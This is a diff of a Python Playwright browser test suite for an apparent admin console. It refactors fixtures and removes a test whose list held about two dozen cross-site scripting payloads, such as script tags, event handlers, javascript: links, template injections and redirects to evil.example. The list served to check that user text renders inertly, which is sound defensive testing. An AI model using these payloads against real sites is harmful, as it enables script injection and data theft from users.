@@ -2,97 +2,22 @@
 
 import re
 from collections.abc import Callable, Iterator
-from dataclasses import dataclass
 from typing import Any
 
 import pytest
-from playwright.sync_api import Browser, BrowserContext, Page, expect
+from playwright.sync_api import Browser, BrowserContext, expect
 
-from admin.manage import create_admin, make_link
-from core.admins import Role
-from core.conversation.inbound import Accepted, Named
-from core.media.safe_picture import SafePicture
-from core.store.models import Person, Turn
 from core.store.outcome import Outcome
 from core.values import TurnState, new_id, utc_now
-from tests.asking import Asker
-from tests.browser.conftest import ServedPage
 from tests.browser.looks import AA, contrasts, fits
+from tests.browser.review import Review, ready, sample
 from tests.browser.watch import Watch
-from tests.integration.web.site import picture
 
 pytestmark = pytest.mark.browser
 
 PHONE = {"viewport": {"width": 360, "height": 640}, "is_mobile": True, "has_touch": True}
 # What the pages may weigh without pictures, as it is sent.
 PAGE_KIB = 60
-PAYLOADS = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    '"><script>alert(1)</script>',
-    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
-    "javascript:alert(1)",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<a href=javascript:alert(1)>x</a>",
-    "[x](javascript:alert(1))",
-    "![x](https://evil.example/x.png)",
-    "<style>*{background:url(https://evil.example)}</style>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<base href=https://evil.example>",
-    "<form action=https://evil.example><input name=q>",
-    "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "--><script>alert(1)</script>",
-    "{{constructor.constructor('alert(1)')()}}",
-    "{% raw %}<script>alert(1)</script>",
-    "<details open ontoggle=alert(1)>",
-    "<div hx-get=/audit hx-trigger=load hx-on::load=alert(1)>",
-    "<b data-live=https://evil.example/e>x</b>",
-    "\u202e<script>alert(1)</script>",
-    "<scr\x01ipt>alert(1)</scr\x01ipt>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-)
-
-
-@dataclass
-class Review:
-    """A console, and people who ask at the same installation."""
-
-    url: str
-    service: ServedPage
-    asker: Asker
-
-    def signed_in(self, context: BrowserContext, role: Role = Role.OWNER, path: str = "/") -> Page:
-        """A page of an admin of its own."""
-        name = f"{role}-{new_id()[-8:]}"
-        settings = self.asker.settings
-        create_admin(settings, name, role, everywhere=True)
-        page = context.new_page()
-        page.goto(make_link(settings, name, self.url))
-        page.get_by_role("button", name="Sign in").click()
-        expect(page).to_have_url(f"{self.url}/")
-        page.goto(self.url + path)
-        return page
-
-    def answered(self, question: str, *pictures: Named, thread: str = "") -> Accepted:
-        """A question that the worker has answered; the scripted engine repeats it."""
-        accepted = self.asker.accept(question, thread=thread, pictures=pictures)
-        self.asker.dispatcher.announce([accepted.person_id], [accepted.conversation_id])
-        self.asker.wait([accepted.turn_id])
-        return accepted
-
-
-@pytest.fixture(scope="module")
-def review(service: ServedPage) -> Review:
-    return Review(service.installation.start_console(), service, Asker(service.installation))
-
-
-@pytest.fixture
-def context(new_context: Callable[..., BrowserContext], watch: Watch, review: Review) -> BrowserContext:
-    """A watched profile."""
-    watch.allow_origin(review.url)
-    return new_context(viewport={"width": 1100, "height": 760})
 
 
 @pytest.fixture
@@ -101,16 +26,6 @@ def plain(browser: Browser) -> Iterator[BrowserContext]:
     made = browser.new_context(java_script_enabled=False)
     yield made
     made.close()
-
-
-def ready(page: Page) -> None:
-    """Until the page's script listens to keys: it sets the times after that."""
-    expect(page.locator("time[data-local]").first).to_be_attached()
-
-
-def sample(name: str = "chart.png") -> Named:
-    """A picture as the reader process leaves it."""
-    return Named(name, SafePicture.of(picture(size=(320, 240)), "image/png", 320, 240))
 
 
 def test_an_english_and_a_chinese_word_find_a_conversation_by_keyboard_alone(
@@ -198,7 +113,7 @@ def test_a_question_that_comes_meanwhile_is_added(review: Review, context: Brows
 def test_boxes_stand_in_the_picture_and_it_opens_in_full(review: Review, context: BrowserContext) -> None:
     accepted = review.asker.accept("Where is the dot?", pictures=[sample("dot.png")])
     box: dict[str, Any] = {"label": "dot", "left": 0.25, "top": 0.5, "right": 0.5, "bottom": 0.75}
-    with review.service.installation.store.write() as repositories:
+    with review.installation.store.write() as repositories:
         now = utc_now()
         turn = repositories.turns.claim(accepted.turn_id, "the-test", now, now)
         assert turn is not None
@@ -274,7 +189,7 @@ def test_every_text_has_enough_contrast_and_every_field_a_name(
     word = f"heron{new_id()[-6:]}"
     talk = review.answered(f"{word} `code` [a](https://example.com)\n\n> quote\n\n| a |\n|---|\n| b |", sample())
     failed = review.answered(f"{word} [[fail]]")
-    with review.service.installation.store.write() as repositories:
+    with review.installation.store.write() as repositories:
         repositories.feedback.set(talk.turn_id, talk.person_id, 1, "yes", now=utc_now())
         repositories.feedback.set(failed.turn_id, failed.person_id, -1, "no", now=utc_now())
     page = review.signed_in(new_context(color_scheme=scheme, reduced_motion="reduce"))
@@ -304,39 +219,6 @@ def test_every_text_has_enough_contrast_and_every_field_a_name(
     page.get_by_role("button", name="Sign out").click()
     expect(page.get_by_label("Password")).to_be_visible()
     assert [(text, contrast) for text, contrast in contrasts(page) if contrast < AA] == []
-
-
-def test_what_strangers_write_does_nothing(review: Review, context: BrowserContext) -> None:
-    store = review.service.installation.store
-    thread = f"xss-{new_id()}"
-    for n, payload in enumerate(PAYLOADS):
-        accepted = review.asker.accept(payload, person=f"xss-{n}", thread=thread, pictures=[sample(payload)])
-        # One more, so that each is a title, too.
-        other = review.asker.accept(payload, person=f"xss-{n}")
-        with store.write() as repositories:
-            session = repositories.session
-            session.query(Person).filter_by(id=accepted.person_id).update({"display_name": payload})
-            told: dict[Any, Any] = {
-                "answer": payload,
-                "thinking": payload,
-                "model": payload[:200],
-                "state": TurnState.FAILED,
-            }
-            told |= {"error_code": payload[:60], "error_message": payload}
-            turns = session.query(Turn).filter(Turn.id.in_([accepted.turn_id, other.turn_id]))
-            turns.update(told, synchronize_session=False)
-            repositories.feedback.set(accepted.turn_id, accepted.person_id, -1, payload, now=utc_now())
-    page = review.signed_in(context)
-    for path in (f"/conversations/{accepted.conversation_id}", "/?state=failed", "/?q=alert", "/audit"):
-        page.goto(review.url + path)
-        expect(page.get_by_role("main")).to_contain_text("alert")
-        expect(page.locator("main script, main iframe, main meta, main base, main style")).to_have_count(0)
-        expect(page.locator("main [onerror], main [onload], main a[href^=javascript]")).to_have_count(0)
-        expect(page.locator("main [hx-trigger=load], main [data-live]")).to_have_count(0)
-    page.goto(f"{review.url}/conversations/{accepted.conversation_id}")
-    shown = page.locator(".bubble").all_text_contents()
-    assert shown == [payload.replace("\0", "") for payload in PAYLOADS]
-    # `watch` fails this test if a dialog opened, another server was asked, or the policy had to step in.
 
 
 def test_signing_out_everywhere_ends_the_other_browser_too(
